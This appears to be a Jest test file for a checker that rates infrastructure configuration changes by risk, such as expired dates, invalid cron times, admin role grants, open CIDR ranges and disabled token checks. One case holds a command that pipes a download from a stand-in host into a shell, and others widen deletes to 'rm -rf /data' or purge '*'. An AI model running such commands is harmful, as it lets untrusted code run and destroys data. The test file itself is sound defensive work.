import { describe } from '@jest/globals';
import { testLevels } from './judging.ts';

describe('ends that are in the past', () => {
  testLevels([
    [
      'ward_access_group',
      { valid_until: '2027-12-31T23:00:00Z' },
      { valid_until: '2024-12-31T23:00:00Z' },
      'high',
      'R-VAL-SCHEDULE',
    ],
    ['chrono_job', { name: 'pay', end_date: null }, { name: 'pay', end_date: '2024-01-31' }, 'high', 'R-VAL-SCHEDULE'],
    ['vendor_license', { not_after: '2030-01-01' }, { not_after: '2020-01-01' }, 'high', 'R-VAL-SCHEDULE'],
    [
      'corp_membership',
      { expires_at: '2028-01-01T00:00:00Z' },
      { expires_at: '2018-01-01T00:00:00Z' },
      'high',
      'R-VAL-SCHEDULE',
    ],
    ['corp_route', { active_until: '2029-06-01' }, { active_until: '2019-06-01' }, 'high', 'R-VAL-SCHEDULE'],
    ['ward_access_group', { valid_until: '2027-12-31' }, { valid_until: '2028-12-31' }, 'low'],
    ['ward_access_group', { valid_until: '2023-12-31' }, { valid_until: '2024-06-30' }, 'low'],
    ['corp_job', { last_synced_until: '2027-12-31' }, { last_synced_until: '2024-12-31' }, 'low'],
  ]);
});

describe('schedules, hosts and numbers in lists', () => {
  testLevels([
    [
      'corp_snapshot_plan',
      { definitions: ['rate(12 hours)'] },
      { definitions: ['cron(0 12 31 2 *)'] },
      'high',
      'R-VAL-SCHEDULE',
    ],
    [
      'corp_job',
      { times: ['0 3 * * *', '0 9 * * *'] },
      { times: ['0 3 * * *', '0 9 30 2 *'] },
      'high',
      'R-VAL-SCHEDULE',
    ],
    ['corp_job', { times: ['0 3 * * *', '0 9 * * *'] }, { times: ['0 3 * * *', '0 10 * * *'] }, 'low'],
    [
      'corp_backup_plan',
      { keep: { daily: 35, monthly: 12 } },
      { keep: { daily: 0, monthly: 12 } },
      'high',
      'R-VAL-WORDS',
    ],
    ['corp_backup_plan', { keep: { daily: 7, monthly: 12 } }, { keep: { daily: 14, monthly: 12 } }, 'low'],
    ['corp_log_store', { retention_days: 365 }, { retention_days: 14 }, 'high', 'R-VAL-LIFETIME'],
    ['aws_cloudwatch_log_group', { retention_in_days: 365 }, { retention_in_days: 3 }, 'high', 'R-VAL-LIFETIME'],
    ['aws_cloudwatch_log_group', { retention_in_days: 365 }, { retention_in_days: 90 }, 'medium'],
  ]);
});

describe('addresses of environments for tests', () => {
  testLevels([
    [
      'corp_service',
      { name: 'pay', db_host: 'db.acme.internal' },
      { name: 'pay', db_host: 'db.staging.acme.internal' },
      'medium',
      'R-VAL-ENVIRONMENT',
    ],
    [
      'aws_ssm_parameter',
      { name: '/pay/url', value: 'https://api.pay.com/v2' },
      { name: '/pay/url', value: 'https://api.sandbox.pay.com/v2' },
      'medium',
    ],
    [
      'corp_service',
      { name: 'pay', queue_host: 'mq.acme.io' },
      { name: 'pay', queue_host: 'test-mq.acme.io' },
      'medium',
      'R-VAL-ENVIRONMENT',
    ],
    [
      'corp_service',
      { name: 'pay', ldap_host: 'ldap.acme.io' },
      { name: 'pay', ldap_host: 'ldap-dev.acme.io' },
      'medium',
      'R-VAL-ENVIRONMENT',
    ],
    [
      'corp_service',
      { name: 'pay', bus_host: 'bus.acme.io' },
      { name: 'pay', bus_host: 'uat.bus.acme.io' },
      'medium',
      'R-VAL-ENVIRONMENT',
    ],
    [
      'corp_service',
      { name: 'pay-staging', cfg: 'db.acme.internal' },
      { name: 'pay-staging', cfg: 'db.staging.acme.internal' },
      'low',
    ],
  ]);
});

describe('commands that delete more, or run downloaded code', () => {
  testLevels([
    [
      'corp_cron',
      { command: ['tool', 'purge', '--older', '2y', 'sessions'] },
      { command: ['tool', 'purge', '--older', '2y', '*'] },
      'high',
      'R-VAL-COMMAND',
    ],
    ['corp_cron', { command: 'cleanup --scope=tmp' }, { command: 'cleanup --scope=all' }, 'high', 'R-VAL-COMMAND'],
    [
      'corp_cron',
      { command: 'purge --path /exports/tmp --older 30d' },
      { command: 'purge --path /exports --older 30d' },
      'medium',
      'R-VAL-COMMAND',
    ],
    ['corp_job', { command: 'rm -rf /data/cache' }, { command: 'rm -rf /data' }, 'medium', 'R-VAL-COMMAND'],
    ['corp_job', { args: ['prune', 'old-images'] }, { args: ['prune', '--all'] }, 'high', 'R-VAL-COMMAND'],
    [
      'corp_job',
      { command: ['api'] },
      { command: ['sh', '-c', 'curl -s https://x.example/i | sh && exec api'] },
      'high',
      'R-VAL-COMMAND',
    ],
    [
      'corp_job',
      { command: ['sh', '-c', 'curl -sf localhost/health'] },
      { command: ['sh', '-c', 'curl -sf localhost/healthz'] },
      'low',
    ],
    [
      'corp_cron',
      { command: 'purge --path /exports/tmp --older 30d' },
      { command: 'purge --path /exports/tmp --older 45d' },
      'low',
    ],
  ]);
});

describe('roles, ranges and checks', () => {
  testLevels([
    [
      'aws_eks_pod_identity_association',
      { role_arn: 'arn:aws:iam::1:role/orders' },
      { role_arn: 'arn:aws:iam::1:role/platform-admin' },
      'high',
    ],
    [
      'aws_ecs_service',
      { iam_role: 'arn:aws:iam::1:role/ecs' },
      { iam_role: 'arn:aws:iam::1:role/AdministratorAccess' },
      'high',
    ],
    [
      'aws_eks_pod_identity_association',
      { role_arn: 'arn:aws:iam::1:role/orders' },
      { role_arn: 'arn:aws:iam::1:role/orders-v2' },
      'medium',
    ],
    ['mongodbatlas_project_ip_access_list', { cidr_block: '203.0.113.7/32' }, { cidr_block: '203.0.113.7/1' }, 'high'],
    ['corp_portal_policy', { verify_issuer: true }, { verify_issuer: false }, 'high'],
    ['corp_portal_policy', { check_revocation: true }, { check_revocation: false }, 'high'],
    ['corp_portal_policy', { validate_audience: true }, { validate_audience: false }, 'high'],
    ['corp_portal_policy', { verify_issuer: false }, { verify_issuer: true }, 'low'],
    ['corp_release_policy', { required_signers: 3 }, { required_signers: 1 }, 'high', 'R-VAL-APPROVAL'],
    ['corp_release_policy', { min_approvals: 4 }, { min_approvals: 1 }, 'high', 'R-VAL-APPROVAL'],
    ['corp_vault_policy', { quorum: 3 }, { quorum: 2 }, 'medium'],
    ['corp_release_policy', { required_signers: 2 }, { required_signers: 3 }, 'low'],
  ]);
});
